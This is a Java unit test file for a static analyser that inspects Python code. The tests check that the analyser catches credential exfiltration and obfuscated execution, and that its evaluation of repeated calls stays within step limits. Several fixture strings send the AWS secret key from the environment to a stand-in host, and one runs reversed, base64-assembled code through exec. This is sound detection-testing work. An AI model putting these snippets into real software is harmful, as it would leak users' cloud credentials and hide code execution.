package cordon.inspect.python;

import static org.assertj.core.api.Assertions.assertThat;

import cordon.inspect.fact.Behaviour;
import cordon.inspect.fact.FileFacts;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

/** Calls are evaluated again where something may come of it, and hardly ever otherwise. */
class PythonRepeatsTest {
  private static final String LONG = "  a = b + c * d - e\n".repeat(200);

  /** An object that is another one after each call. */
  private static final String COUNTER =
      """
      class Counter:
        def __init__(self):
          self.count = 0
        def up(self, name):
          self.count = self.count + 1
          return self.told(name)
        def told(self, name):
          pass
      counter = Counter()
      """;

  @Test
  void aCallIsNotEvaluatedAgainForWhatItDoesNotLookAt() {
    String code =
        COUNTER
            + "def work(b, c, d, e):\n"
            + LONG
            + "for i in range(100):\n  counter.up('x')\n  work(1, 2, 3, 4)\n";
    assertThat(PythonReaderTest.read(code).steps()).isLessThan(20_000);
  }

  @Test
  void aCallIsEvaluatedAgainForWhatItLooksAt() {
    String code =
        """
        import os, urllib.request
        class Box:
          def __init__(self):
            self.held = ''
          def give(self):
            urllib.request.urlopen('https://collect.example.test', data=self.held)
        box = Box()
        box.give()
        box.held = os.environ['AWS_SECRET_ACCESS_KEY']
        box.give()
        """;
    assertThat(PythonReaderTest.read(code).facts()).anyMatch(f -> sends(f.inputs()));
  }

  /** Each call changes what it looks at itself, so that the next is another one. */
  @Test
  void whatChangesWhatItLooksAtGoesOn() {
    String code =
        """
        class Text:
          def __init__(self):
            self.at = 0
            self.out = ''
          def next(self):
            self.at = self.at + 1
            return 'xtnirp'[self.at * -1]
          def read(self):
            for i in range(5):
              self.out = self.out + self.next()
            return self.out
        import base64
        exec(Text().read() + base64.b64decode('KCk=').decode())
        """;
    assertThat(PythonReaderTest.read(code).facts())
        .anyMatch(f -> f.behaviour() == Behaviour.RUN_CODE);
  }

  @Test
  void whatIsRepeatedInVainEnds() {
    FileFacts facts = PythonReaderTest.read(busy(1_000));
    assertThat(facts.steps()).isLessThan(500_000);
    assertThat(facts.doubts()).isEmpty();
  }

  @Test
  void whatFlowsAnewIsFollowedHoweverMuchWasRepeated() {
    String code =
        "import os, urllib.request\n"
            + "def send(what):\n"
            + "  urllib.request.urlopen('https://collect.example.test', data=what)\n"
            + "send('nothing')\n"
            + busy(1_000)
            + "send(os.environ['AWS_SECRET_ACCESS_KEY'])\n";
    assertThat(PythonReaderTest.read(code).facts()).anyMatch(f -> sends(f.inputs()));
  }

  /** What lies in a file is not encoded because something was decoded to find it. */
  @Test
  void aPlaceThatIsDecodedIsNotWhatLiesThere() {
    String place = "import base64\ndef place(a):\n  return base64.b64decode(a).decode() + '.py'\n";
    assertThat(runs(place + "exec(open(place(given)).read())\n")).doesNotContain(Behaviour.DECODE);
    assertThat(runs(place + "exec(place(given))\n")).contains(Behaviour.DECODE);
    assertThat(
            runs(
                place
                    + "path = choose()\nwith open(path, 'w') as f:\n  f.write(place(given))\n"
                    + "exec(open(path).read())\n"))
        .contains(Behaviour.DECODE);
  }

  private static Set<Behaviour> runs(String code) {
    return PythonReaderTest.read(code).facts().stream()
        .filter(f -> f.behaviour() == Behaviour.RUN_CODE)
        .flatMap(f -> f.inputs().stream())
        .collect(Collectors.toSet());
  }

  private static boolean sends(Set<Behaviour> inputs) {
    return inputs.contains(Behaviour.SECRET) || inputs.contains(Behaviour.ENVIRONMENT);
  }

  private static String busy(int rounds) {
    return COUNTER
        + "def work(n):\n"
        + LONG
        + "  counter.up(n)\n"
        + "for i in range(%d):\n  work(i)\n".formatted(rounds);
  }
}
